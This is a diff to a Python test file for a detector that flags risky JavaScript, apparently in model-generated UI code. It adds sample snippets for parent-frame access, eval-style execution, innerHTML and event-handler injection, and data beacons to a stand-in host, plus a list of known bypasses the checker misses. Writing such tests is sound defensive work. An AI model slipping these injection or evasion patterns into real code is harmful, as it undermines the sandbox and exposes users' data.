@@ -5,6 +5,17 @@ import pytest
 from genui_core.domain.finding import Ruling
 
 FRAME = [
+    "const { ownerDocument: { defaultView: { parent: q } } } = ui.root",
+    "addEventListener('click', ({ view }) => view.parent)",
+    "x.onclick = (a) => a.view['par' + 'ent']",
+    "ui.el('b', { onclick: (a) => a.view.top })",
+    "addEventListener('message', ({ source }) => source.postMessage(1))",
+    "const f = (w = window) => w.parent",
+    "x = window",
+    "x.w = window",
+    "throw window",
+    "({ ...window }).parent",
+    "Object.getPrototypeOf(window)",
     "parent.x",
     "top.postMessage(1, '*')",
     "opener",
@@ -66,6 +77,12 @@ FRAME = [
     "const held = { parent }",
 ]
 NAVIGATION = [
+    "for (location.href of ['https://a.example']);",
+    "[location.href] = ['https://a.example']",
+    "({ a: location.href } = data)",
+    "Object.assign(location, { href: x })",
+    "const a = document.createElement('a'); a.dispatchEvent(new MouseEvent('click'))",
+    "documentPictureInPicture.requestWindow()",
     "location = 'https://a.example'",
     "location.href = 'https://a.example'",
     "window.location.assign(x)",
@@ -103,6 +120,10 @@ NETWORK = [
 ]
 WEBRTC = ["new RTCPeerConnection({})", "new window['webkitRTC' + 'PeerConnection']()"]
 CODE = [
+    "setTimeout(`${data.code}`)",
+    "setTimeout(data.code + '')",
+    "class A extends Function {}",
+    "Reflect.apply(eval, null, ['x'])",
     "eval('1')",
     "(0, eval)('1')",
     "\\u0065val('1')",
@@ -127,6 +148,12 @@ CODE = [
     "const d = document; d.write('x')",
 ]
 MARKUP = [
+    "x.setAttribute('on' + data.kind, 'a()')",
+    "x.setAttribute(`on${data.kind}`, 'a()')",
+    "Object.assign(x, { innerHTML: '<b onclick=a()>' })",
+    "Reflect.set(x, 'innerHTML', '<b onclick=a()>')",
+    "[x.innerHTML] = ['<b onclick=a()>']",
+    "document.execCommand('insertHTML', false, '<b onclick=a()>')",
     "x.innerHTML = '<img src=x onerror=a()>'",
     "x['inner' + 'HTML'] = '<svg onload=a()>'",
     "x.outerHTML += '<b onclick=a()>'",
@@ -159,6 +186,8 @@ ELEMENTS = [
     "document.createElement('ba' + 'se')",
 ]
 EXTERNAL = [
+    "x.style['background-image'] = 'url(//a.example)'",
+    "({ a: x.src } = { a: 'https://a.example' })",
     "new Image().src = 'https://a.example/' + x",
     "x.src = '//a.example'",
     "x.setAttribute('src', '\\\\\\\\a.example')",
@@ -196,6 +225,12 @@ TOOLS_COMPUTED = [
 ]
 MODULES = ["import('https://a.example')", "import(x)", "const load = (m) => import(m)"]
 
+SECRETS = [
+    "ui.el('input', { type: 'password' })",
+    "x.type = 'pass' + 'word'",
+    "x.setAttribute('type', 'password')",
+]
+
 GROUPS = [
     ({"frame.access", "frame.computed", "frame.handed_on"}, FRAME),
     ({"navigation"}, NAVIGATION),
@@ -206,6 +241,7 @@ GROUPS = [
     ({"resource.element"}, ELEMENTS),
     ({"resource.external"}, EXTERNAL),
     ({"url.script_made"}, SCRIPT_ADDRESSES),
+    ({"input.secret"}, SECRETS),
     ({"tool.foreign"}, TOOLS_FOREIGN),
     ({"tool.computed"}, TOOLS_COMPUTED),
     ({"import.dynamic"}, MODULES),
@@ -236,6 +272,12 @@ def test_code_from_text_is_put_to_the_model_or_only_noted(judged, script):
 
 
 KNOWN_BYPASSES = [
+    "x.attributes.onclick.value = 'a()'",
+    "Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML').set.call(x, '<b onclick=a()>')",
+    "const o = { f() { return this; } }; (0, o.f)().parent",
+    "setTimeout(function () { this.parent.x; })",
+    "document.forms[0].submit()",
+    "setTimeout(data.code)",
     "addEventListener('click', (e) => e.composedPath().at(-1).parent)",
     "document.querySelector('a').click()",
     "class A { static w = document; } A.w.defaultView.valueOf()[A.name]",
